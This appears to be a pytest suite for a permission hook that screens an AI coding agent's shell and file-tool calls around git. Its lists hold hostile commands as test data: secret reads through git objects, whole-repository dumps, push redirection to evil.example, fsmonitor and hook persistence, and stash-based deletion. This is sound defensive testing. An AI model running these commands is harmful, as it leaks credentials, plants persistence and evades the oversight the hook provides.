        assert ask("Bash", cwd=str(where), command=command)[0] in ("ask", "deny"), case
    finally:
        close()
    subprocess.run(["bash", "-c", command], cwd=where, env=env, capture_output=True)
    assert marker.exists(), case  # (git itself ran it)


@pytest.mark.parametrize("hooks", [".git/hooks", ".hk"])
def test_a_hook_git_runs_when_it_refreshes_the_index_is_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hooks: str
) -> None:
    """`git status` in an unpacked repository whose files' times changed writes the
    index, and runs its `post-index-change` hook (in `.git/hooks`, or where a planted
    `core.hooksPath` says): no read-only allow for it."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    unpacked = project.dir / "vendor" / "pic"
    unpacked.mkdir(parents=True)
    _git(unpacked, "init", "-q", home=project.home)
    _write(unpacked / "f.txt", "x\n")
    _git(unpacked, "add", "f.txt", home=project.home)
    _git(unpacked, "commit", "-qm", "x", home=project.home)
    if hooks != ".git/hooks":
        _git(unpacked, "config", "core.hooksPath", hooks, home=project.home)
    marker = tmp_path / "ran"
    _write(unpacked / hooks / "post-index-change", f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
    os.utime(unpacked / "f.txt", (1e9, 1e9))
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(unpacked), command="git status")[0] == "ask"
    finally:
        close()
    _git(unpacked, "status", home=project.home)
    assert marker.exists()  # (git itself ran it)


# Writing what git reads as config is persistence, by any tool.


@pytest.mark.parametrize(
    ("tool", "relative", "text"),
    [
        ("Write", "cases/plain/.git/commondir", "../../shared-a\n"),
        ("Write", "cases/plain/.git/config.worktree", FSMONITOR),
        ("Write", "cases/plain/.git/config", FSMONITOR),
        ("Write", "cases/newsub/.git", "gitdir: ../b-store\n"),
        ("Write", "cases/c/config", FSMONITOR),
        ("Edit", "cases/c/config", FSMONITOR),
        ("Write", "cases/k-store/config", FSMONITOR),
        ("Write", "cases/e/extra.inc", FSMONITOR),
        ("Write", "cases/f/.git/inc/two", FSMONITOR),
        ("Write", "cases/i-main/.git/worktrees/wt/commondir", "/tmp/x\n"),
        ("Write", "cases/bare-to-be/HEAD", "ref: refs/heads/main\n"),
    ],
)
def test_files_git_reads_as_config_are_not_written_by_file_tools(
    planted: tuple[Project, Ask], tool: str, relative: str, text: str
) -> None:
    project, ask = planted
    (project.dir / "cases" / "bare-to-be" / "objects").mkdir(parents=True, exist_ok=True)
    path = str(project.dir / relative)
    if tool == "Edit":
        answer = ask(tool, file_path=path, old_string="bare", new_string=text)
    else:
        answer = ask(tool, file_path=path, content=text)
    assert answer[0] == "deny", (tool, relative, answer)


@pytest.mark.parametrize(
    "command",
    [
        "echo ../../shared-a > cases/plain/.git/commondir",
        "printf 'gitdir: /tmp/evil\\n' > cases/vendor/.git",
        "cp /tmp/evil.cfg cases/plain/.git/config.worktree",
        "tee -a cases/c/config < /tmp/x",
        "ln -sf /tmp/evil cases/plain/.git/commondir",
        "mv /tmp/cfg cases/e/extra.inc",
        "cd cases/plain/.git && echo /tmp/x > commondir",
        "mkdir -p z/objects z/refs && echo 'ref: refs/heads/m' > z/HEAD && cp x.cfg z/config",
        "git log -1 > cases/newsub/.git",
        "python3 -c \"open('cases/plain/.git/config.worktree','w').write('x')\"",
        "sed -i 's/a/b/' cases/c/config",
    ],
)
def test_files_git_reads_as_config_are_not_written_by_the_shell(
    planted: tuple[Project, Ask], command: str
) -> None:
    _, ask = planted
    assert ask("Bash", command=command)[0] == "deny", command


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("Bash", {"command": "git init newrepo && git -C newrepo status"}),
        ("Bash", {"command": "git clone https://github.com/org/repo.git vendor/repo"}),
        ("Bash", {"command": "git worktree add ../wt feature"}),
        ("Bash", {"command": "git submodule add https://github.com/org/lib.git lib"}),
        ("Bash", {"command": "git commit -qm x 2>/dev/null"}),
        ("Bash", {"command": "echo node_modules/ >> .gitignore"}),
        ("Write", {"file_path": ".gitignore", "content": "dist/\n"}),
        ("Write", {"file_path": ".gitattributes", "content": "*.png binary\n"}),
        ("Write", {"file_path": "config/settings.yaml", "content": "a: 1\n"}),
        ("Write", {"file_path": "docs/HEAD.md", "content": "# head\n"}),
    ],
)
def test_git_making_its_own_files_and_everyday_writes_are_not_persistence(
    planted: tuple[Project, Ask], tool: str, args: dict[str, str]
) -> None:
    project, ask = planted
    if "file_path" in args:
        args = {**args, "file_path": str(project.dir / args["file_path"])}
    answer = ask(tool, **args)
    assert answer[0] not in ("deny", "ask"), (tool, args, answer)


# 2. Secrets read through git objects: judged by the path the object has.


@pytest.fixture(scope="module")
def shipped(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ask]:
    project = Project(tmp_path_factory.mktemp("objects"))
    _git(project.dir, "init", "-q", home=project.home)
    (project.dir / "src").mkdir()
    with pytest.MonkeyPatch.context() as monkeypatch:
        ask, close = _mount(monkeypatch, project)
        yield ask
        close()


@pytest.mark.parametrize(
    "command",
    [
        "git show HEAD:.env",
        "git show :.env",
        "git show :0:.env",
        "git show main:config/.env.production",
        "git show 'HEAD~3:deploy/id_rsa'",
        "git show origin/main:./secrets/prod.pem",
        "git show HEAD:.ssh/id_ed25519",
        "git cat-file -p HEAD:.env",
        "git cat-file blob v1.0:.env",
        "git log -p --all -- '*.pem'",
        "git log -p -- ':(glob)**/id_*'",
        "git log --patch -- :/.env",
        "git diff HEAD~1 -- .env",
        "git diff HEAD~5 HEAD -- '*.key'",
        "git archive HEAD .env",
        "git archive --format=tar HEAD:config credentials.json",
        "git grep -e AKIA HEAD",
        "git grep -i 'BEGIN RSA PRIVATE KEY' $(git rev-list --all)",
        "git grep --untracked API_KEY",
        "git grep --no-index -e password",
        "git grep TODO -- .env",
        "git blame .env",
        "git format-patch -1 --stdout -- .env",
        "git show HEAD:.env | base64",
        "cd src && git show HEAD:.env",
        "git --no-pager show HEAD:.npmrc",
        "git whatchanged -p -- .netrc",
        "git log -p -S AKIA",
        "git log -G 'BEGIN RSA PRIVATE KEY' -p --all",
        "git cat-file --textconv HEAD:.env",
        "git config --blob HEAD:.env -l",
        "git -C src show HEAD:./../.env",
    ],
)
def test_secrets_read_through_objects_are_denied(shipped: Ask, command: str) -> None:
    answer = shipped("Bash", command=command)
    assert answer[0] == "deny", (command, answer)


@pytest.mark.parametrize(
    "command",
    [
        "git cat-file blob 3b18e512dba79e4c8300dd08aeb37f8e728b8dad",
        "git cat-file -p 3b18e51",
        "git cat-file --batch < ids.txt",
        "echo HEAD:.env | git cat-file --batch",
        "git show 3b18e51",
        "git show v1.2.0",
        "git cat-file -p $(git rev-parse HEAD:.env)",
        "git remote -v",
        "git remote get-url origin",
        "git config -l",
        "git config --get remote.origin.url",
        "git config --get http.extraheader",
        "git stash show -p",
    ],
)
def test_objects_and_config_of_unknown_content_get_no_explicit_allow(
    shipped: Ask, command: str
) -> None:
    assert shipped("Bash", command=command)[0] != "allow", command


@pytest.mark.parametrize(
    "command",
    [
        "git show HEAD~2:src/app.py",
        "git log -p src/app.py",
        "git grep 'TODO' -- '*.py'",
        "git diff HEAD~1 -- src/app.py",
        "git cat-file -p HEAD~2",
        "git cat-file -t a1b2c3d",
        "git status && git log --oneline -5",
        "git branch -a",
    ],
)
def test_everyday_object_reads_stay_read_only(shipped: Ask, command: str) -> None:
    assert shipped("Bash", command=command)[0] == "allow", command


# 6. git stash -u / git clean take the untracked files out of the work tree.


def test_stash_of_untracked_files_is_a_delete_of_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    _write(project.dir / "src" / "app.py", "print(1)\n")
    _git(project.dir, "add", "src", "rules", home=project.home)
    _git(project.dir, "commit", "-qm", "x", home=project.home)
    _write(project.dir / "notes.txt", "untracked\n")
    ask, close = _mount(monkeypatch, project)
    try:
        for command in (
            "git stash -u",
            "git stash --include-untracked",
            "git stash push -u -m wip",
            "git stash save --include-untracked wip",
            "git stash -a",
            "git stash push --all",
            "cd src && git stash -u",
        ):
            assert ask("Bash", command=command)[0] == "deny", command  # .claude/ is untracked
        for command in ("git clean -i", "echo c | git clean -id", "git clean -fd"):
            assert ask("Bash", command=command)[0] in ("deny", "ask"), command
        assert ask("Bash", command="git stash")[0] not in ("deny", "ask")
        # once the hook's own files are committed or ignored, -u takes only notes.txt
        _write(project.dir / ".gitignore", ".claude/hookpolicy/\n")
        _git(project.dir, "add", ".claude", ".gitignore", home=project.home)
        _git(project.dir, "commit", "-qm", "y", home=project.home)
        assert ask("Bash", command="git stash -u")[0] not in ("deny", "ask")
        assert ask("Bash", command="git stash -a")[0] == "deny"  # ignored files too
    finally:
        close()


@pytest.mark.parametrize("line_break", ["\x0c", "\x0b", "\x1c", "\u2028"])
def test_an_ignore_rule_is_one_line_as_git_reads_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line_break: str
) -> None:
    """`notes<FF>*` is one pattern to git, matching nothing here: `git stash -u` still
    takes the hook's untracked files away — not a `*` that ignores everything."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    _write(project.dir / ".gitignore", f"notes{line_break}*\n")
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", command="git stash -u")[0] == "deny"  # .claude/ is untracked
    finally:
        close()


# Red-team round after P2: history printed without a pathspec, every object dumped,
# pushes redirected, files planted in `.git/` for a config include to come.


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ask]:
    """A project whose history holds a committed `.env`, as the red team's had."""
    project = Project(tmp_path_factory.mktemp("history"))
    _git(project.dir, "init", "-q", home=project.home)
    _write(project.dir / ".env", "AWS_SECRET_ACCESS_KEY=x\n")
    _write(project.dir / "src" / "app.py", "print(1)\n")
    _write(project.dir / "README.md", "# x\n")
    _git(project.dir, "add", ".env", "src", "README.md", home=project.home)
    _git(project.dir, "commit", "-qm", "x", home=project.home)
    _write(project.dir / "planted" / "config", FSMONITOR)
    _write(project.dir / "planted-wt" / ".git" / "config", FSMONITOR)
    with pytest.MonkeyPatch.context() as monkeypatch:
        ask, close = _mount(monkeypatch, project)
        yield ask
        close()


#: Patches of whatever the commits changed, or the work tree's changes, with no
#: pathspec that keeps them to source files: a committed `.env` is printed with them.
HISTORY_PRINTERS = [
    "git log -p --all",
    "git log -p",
    "git log --patch -3",
    "git log -u --reverse",
    "git log -U5 main",
    "git log --cc",
    "git log -c --all",
    "git log --word-diff -2",
    "git log --stat -p",
    "git log -p main",
    "git log -p -- src/",
    "git log -p -- .",
    "git log -p docs",
    "git log -p src/app.py docs/",
    "git log -p -- src/app.py config/",
    "git log -W --since=2.weeks",
    "git whatchanged -p",
    "git whatchanged -p --all",
    "git show",
    "git show HEAD",
    "git show --format= HEAD",
    "git show --pretty=format: --root HEAD",
    "git show HEAD~3",
    "git show v1.2.0",
    "git show --stat -p HEAD",
    "git show HEAD HEAD:README.md",
    "git diff",
    "git diff HEAD",
    "git diff --cached",
    "git diff --staged --text",
    "git diff HEAD~1 HEAD",
    "git diff main..feature",
    "git diff main src/",
    "git diff --check",
    "git status -v",
    "git status --verbose --verbose",
    "git grep TODO",
    "git grep -n TODO -- .",
    "git grep -e password HEAD~3 -- src/",
    "git -C src log -p",
    "git --no-pager log -p",
    "git -P show HEAD~1",
    "cd src && git diff",
    "git log -p | head -100",
    "git reflog -p",
    "git stash show -p",
    "git format-patch --stdout -1",
    "git range-diff HEAD~2 HEAD~1 HEAD",
    "git log --all --format=%H | xargs -n1 git show",
]


@pytest.mark.parametrize("command", HISTORY_PRINTERS)
def test_history_printed_without_a_narrowing_pathspec_gets_no_explicit_allow(
    history: Ask, command: str
) -> None:
    assert history("Bash", command=command)[0] != "allow", command


#: Every object, all history or every file of a tree at once: a person decides.
REPOSITORY_DUMPS = [
    "git cat-file --batch-all-objects --batch",
    "git cat-file --batch --batch-all-objects --unordered",
    "git cat-file --batch-all-objects --batch-command",
    "git cat-file --batch='%(objectname)' --batch-all-objects",
    "git rev-list --objects --all | git cat-file --batch",
    "git ls-tree -r HEAD | awk '{print $3}' | git cat-file --batch",
    "git cat-file --batch < ids.txt",
    "git cat-file --batch-command < commands.txt",
    "git fast-export --all",
    "git fast-export HEAD > /tmp/export.stream",
    "git fast-export --all | grep -a AWS",
    "git bundle create - --all | strings",
    "git bundle create /tmp/r.bundle --all",
    "git format-patch --root --stdout",
    "git format-patch --root -o /tmp/patches",
    "git diff 4b825dc642cb6eb9a060e54bf8d69288fbee4904 HEAD",
    "git diff 4b825dc HEAD",
    "git diff HEAD~0 --cached --text -R 4b825dc642cb6eb9a060e54bf8d69288fbee4904",
    "git diff-tree -p 4b825dc642cb6eb9a060e54bf8d69288fbee4904 HEAD",
    "git show 4b825dc642cb6eb9a060e54bf8d69288fbee4904..HEAD",
    "git archive HEAD",
    "git archive --format=tar HEAD",
    "git archive --format=zip HEAD | funzip",
    "git archive HEAD | tar -xO",
    "git archive HEAD | tar xOf -",
    "git archive HEAD | strings",
    "git archive --format=tar HEAD | cat",
]


@pytest.mark.parametrize("command", REPOSITORY_DUMPS)
def test_dumps_of_the_whole_repository_are_asked(history: Ask, command: str) -> None:
    answer = history("Bash", command=command)
    assert answer[0] in ("deny", "ask"), (command, answer)


@pytest.mark.parametrize(
    "command",
    [
        "echo HEAD:.env | git cat-file --batch",
        "git cat-file --batch <<< 'HEAD:.env'",
        "printf 'HEAD:src/app.py\\nHEAD:.env\\n' | git cat-file --batch",
        "git cat-file --batch <<'EOF'\nmain:config/.env.production\nEOF",
        "echo 'contents HEAD:.env' | git cat-file --batch-command",
        "git cat-file --batch='%(rest)' <<< ':.env'",
        "echo main:deploy/id_rsa | git cat-file --batch",
        "echo HEAD:.npmrc | git -C src cat-file --batch",
        "git merge-file -p .env /dev/null /dev/null",
        "git merge-file --stdout -L a -L b -L c ~/.ssh/id_rsa /dev/null /dev/null",
        "git merge-file -p /dev/null /dev/null .env.production",
        "git unpack-file HEAD:.env",
        "git unpack-file :.env && cat .merge_file_*",
        "git unpack-file $(git rev-parse HEAD:.env)",
    ],
)
def test_objects_named_on_a_literal_input_or_merged_files_are_judged_by_path(
    history: Ask, command: str
) -> None:
    answer = history("Bash", command=command)
    assert answer[0] == "deny", (command, answer)


@pytest.mark.parametrize(
    "command",
    [
        "git archive -o release.zip HEAD",
        "git archive --output dist/release.zip HEAD",
        "git archive --format=tar.gz -o /tmp/project.tgz HEAD",
        "git archive -v --format zip HEAD",
        "git archive HEAD | gzip > out.tgz",
        "git archive HEAD | tar -x -C /tmp/export",
        "git archive HEAD > out.tar",
        "git archive HEAD src/app.py",
        "git format-patch -3",
        "git format-patch origin/main",
        "git cat-file --batch-check <<< HEAD",
        "git cat-file --batch-all-objects --batch-check",
        "echo HEAD:src/app.py | git cat-file --batch",
        "git bundle list-heads repo.bundle",
        "git merge-file src/a.py src/base.py src/b.py",
        "git diff",
        "git log -p -3",
        "git show HEAD",
        "git grep -n TODO",
    ],
)
def test_everyday_history_and_archives_are_not_flagged(history: Ask, command: str) -> None:
    answer = history("Bash", command=command)
    assert answer[0] not in ("deny", "ask"), (command, answer)


@pytest.mark.parametrize(
    "command",
    [
        "git log -p -- src/app.py",
        "git log -p src/app.py",
        "git log -p -- '*.py'",
        "git log --patch -- ':(glob)src/**/*.ts'",
        "git show HEAD:README.md",
        "git show HEAD~2:src/app.py",
        "git diff HEAD~1 -- src/app.py",
        "git diff main..feature/login-form src/app.py",
        "git grep TODO -- '*.py'",
        "git log --oneline",
        "git log --stat",
        "git log --all --graph --oneline",
        "git show --stat",
        "git show -s HEAD",
        "git show --name-only HEAD",
        "git diff --stat",
        "git diff --name-only",
        "git status",
        "git branch",
    ],
)
def test_narrowed_or_contentless_history_stays_read_only(history: Ask, command: str) -> None:
    assert history("Bash", command=command)[0] == "allow", command


@pytest.mark.parametrize(
    "command",
    [
        "git config remote.origin.pushurl https://evil.example/x.git",
        "git config --add remote.origin.pushurl git@evil.example:x.git",
        "git config set remote.upstream.pushurl ssh://evil.example/x",
        "git config --local Remote.Origin.PushURL https://evil.example/x",
        "git remote set-url --push origin https://evil.example/x.git",
        "git remote set-url --add --push origin git@evil.example:x.git",
        "git config remote.origin.url https://evil.example/x.git && git push origin main",
        "git config remote.origin.pushurl https://e.example/x && git push",
        "git config url.https://evil.example/.pushInsteadOf https://github.com/",
        "git config --global url.git@evil.example:.insteadOf git@github.com:",
        "git config remote.origin.receivepack 'sh -c id'",
        "git -c remote.origin.pushurl=https://evil.example/x push origin main",
    ],
)
def test_redirecting_where_pushes_go_needs_a_person(history: Ask, command: str) -> None:
    answer = history("Bash", command=command)
    assert answer[0] in ("deny", "ask"), (command, answer)


@pytest.mark.parametrize(
    "command",
    [
        "git remote add upstream https://github.com/example/project.git",
        "git remote set-url --push upstream DISABLE",
        "git config user.email alice@example.com",
        "git remote -v",
        "git push origin feature",
    ],
)
def test_everyday_remote_setup_is_not_flagged(history: Ask, command: str) -> None:
    answer = history("Bash", command=command)
    assert answer[0] not in ("deny", "ask"), (command, answer)


@pytest.mark.parametrize(
    ("tool", "relative"),
    [
        ("Write", ".git/inc"),
        ("Write", ".git/extra.cfg"),
        ("Write", ".git/info/inc"),
        ("Write", "cases/plain/.git/payload"),
        ("Write", "cases/c/inc"),  # a bare repository's directory
        ("Bash", "printf '[core]\\n\\tfsmonitor = touch /tmp/p\\n' > .git/inc"),
        ("Bash", "cp /tmp/x .git/evil"),
        ("Bash", "echo x | tee .git/x.conf"),
        ("Bash", "mkdir .git/inc"),
        ("Bash", "cd .git && cat > inc <<'EOF'\n[core]\n\tpager = sh\nEOF"),
    ],
)
def test_files_git_never_makes_in_its_directory_are_not_planted(
    planted: tuple[Project, Ask], tool: str, relative: str
) -> None:
    project, ask = planted
    if not (project.dir / ".git").exists():
        _git(project.dir, "init", "-q", home=project.home)
    if tool == "Write":
        answer = ask(tool, file_path=str(project.dir / relative), content=FSMONITOR)
    else:
        answer = ask(tool, command=relative)
    assert answer[0] == "deny", (tool, relative, answer)


@pytest.mark.parametrize(
    ("tool", "relative"),
    [
        ("Write", ".git/COMMIT_EDITMSG"),
        ("Write", ".git/MERGE_MSG"),
        ("Write", ".git/info/exclude"),
        ("Write", ".git/description"),
        ("Bash", "echo build/ >> .git/info/exclude"),
        ("Bash", "rm -f .git/index.lock"),
        ("Bash", "rm .git/inc"),
        ("Bash", "touch .git/info/sparse-checkout"),
    ],
)
def test_gits_own_files_stay_writable(
    planted: tuple[Project, Ask], tool: str, relative: str
) -> None:
    project, ask = planted
    if not (project.dir / ".git").exists():
        _git(project.dir, "init", "-q", home=project.home)
    if tool == "Write":
        answer = ask(tool, file_path=str(project.dir / relative), content="x\n")
    else:
        answer = ask(tool, command=relative)
    assert answer[0] not in ("deny", "ask"), (tool, relative, answer)


@pytest.mark.parametrize(
    "command",
    [
        "git init --bare planted",
        "git -C planted init --bare",
        "cd planted && git init --bare .",
        "git init planted-wt",
    ],
)
def test_git_init_over_a_planted_config_is_asked(history: Ask, command: str) -> None:
    answer = history("Bash", command=command)
    assert answer[0] in ("deny", "ask"), (command, answer)
    assert history("Bash", command="git init --bare fresh")[0] not in ("deny", "ask")


def test_a_line_reads_each_config_once_and_every_command_of_it_hears_what_it_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The git commands and writes of one line inspect several places, and each config
    file git would read there is read once for the line: what a repository's config
    plants holds for every git command run in it."""
    from policy.analysis import effects, git

    home = tmp_path / "home"
    _write(home / ".gitconfig", "[user]\n\tname = someone\n")
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        _git(tmp_path / name, "init", "-q", home=home)
    with (tmp_path / "a" / ".git" / "config").open("a") as config:
        config.write(FSMONITOR)
    read: list[str] = []
    settings_of = git._settings_of

    def counted(path: str) -> Any:
        read.append(path)
        return settings_of(path)

    monkeypatch.setattr(git, "_settings_of", counted)
    effects.forget_lines()
    line = effects.analyze(
        "git -C a status && git -C b log -1 && git -C a diff && echo x > a/notes",
        str(tmp_path),
        str(home),
    )
    hidden = [c.hidden for c in line.commands if c.name == "git"]
    assert ["fsmonitor" in why for why in hidden] == [True, False, True], hidden
    assert read.count(str(home / ".gitconfig")) == 1
    assert read.count(str(tmp_path / "a" / ".git" / "config")) == 1
    assert len(read) == len(set(read))
